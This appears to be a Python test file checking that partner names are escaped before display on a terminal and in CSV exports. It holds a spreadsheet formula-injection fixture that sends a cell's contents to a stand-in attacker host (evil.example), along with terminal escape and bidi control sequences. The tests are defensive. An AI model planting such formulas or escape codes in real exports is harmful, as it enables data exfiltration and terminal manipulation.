"""Text of others is shown on a terminal and in a spreadsheet, and never carried out."""

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from control_plane import partner_file
from control_plane.partner_fields import PartnerFields
from control_plane.terminal import escape, of_cell, printable, to_cell, to_json

FORMULA = '=HYPERLINK("http://evil.example?x="&A1,"Acme")'


@given(st.text())
def test_no_terminal_is_told_what_to_do(text: str) -> None:
    for shown in (printable(text), escape(text), to_json({"name": text})):
        assert not {"\x1b", "\x9b", "\x07", "\r", "\u202e"} & set(shown)
    assert json.loads(to_json(text)) == text


def test_control_characters_are_seen() -> None:
    assert printable("a\x1b[2Jb\u202ec\n") == "a\\u001b[2Jb\\u202ec\n"
    assert escape("[red]\x1b") == "\\[red]\\u001b"


@given(st.text())
def test_a_cell_is_no_formula_and_is_read_again(text: str) -> None:
    assert not to_cell(text).startswith(("=", "+", "-", "@", "\t", "\r"))
    assert of_cell(to_cell(text)) == text


@pytest.mark.parametrize("name", [FORMULA, "+1", "-1", "@SUM(A1)", "'=1", "Acme", "'Acme'", "\uff1d1"])
def test_an_export_holds_no_formula(name: str) -> None:
    text = partner_file.write([PartnerFields(id="acme", name=name)], "csv")
    (row,) = csv.DictReader(io.StringIO(text))
    assert row["name"] == to_cell(name)


@pytest.mark.parametrize("name", ["a\x1bb", "a\x9bb", "a\u202eb", "a\x7fb"])
def test_no_partner_s_name_holds_control_characters(name: str) -> None:
    with pytest.raises(ValueError, match="name"):
        PartnerFields(id="acme", name=name)
